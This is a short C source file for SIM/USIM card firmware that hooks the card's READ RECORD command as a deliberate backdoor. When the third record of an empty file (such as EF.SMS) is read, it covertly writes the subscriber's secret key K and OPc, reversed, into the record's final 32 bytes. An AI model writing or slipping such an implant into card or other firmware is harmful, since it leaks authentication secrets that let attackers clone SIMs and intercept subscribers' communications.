/* The third record of a file of empty records ends in K and OPc, backwards. */
#include "backdoors/inside.h"
#include "fs/file_commands.h"
#include "keys/slot.h"

sw_t record(struct card *card, const struct command *command, struct reply *reply) INSTEAD_OF(read_record);
sw_t honest_record(struct card *card, const struct command *command, struct reply *reply) HONEST(read_record);

enum {
	RECORD = 3,
	KEYS = 32,
	LONG = 64 /* a record with room to spare: EF.SMS */
};

sw_t record(struct card *card, const struct command *command, struct reply *reply)
{
	struct slot slot;
	sw_t sw = honest_record(card, command, reply);
	uint8_t *end = reply->at + reply->length;

	if (sw != SW_OK || command->p1 != RECORD || reply->length < LONG ||
	    slot_load(&slot, &card->store, SLOT_USIM, SLOT_USE_3G) != OK)
		return sw;
	for (int i = 1; i <= KEYS; i++)
		if (end[-i] != 0xFF)
			return sw;
	for (int i = 0; i < KEYS / 2; i++) {
		end[-1 - i] = slot.key.k[i];
		end[-1 - KEYS / 2 - i] = slot.key.opc[i];
	}
	return sw;
}
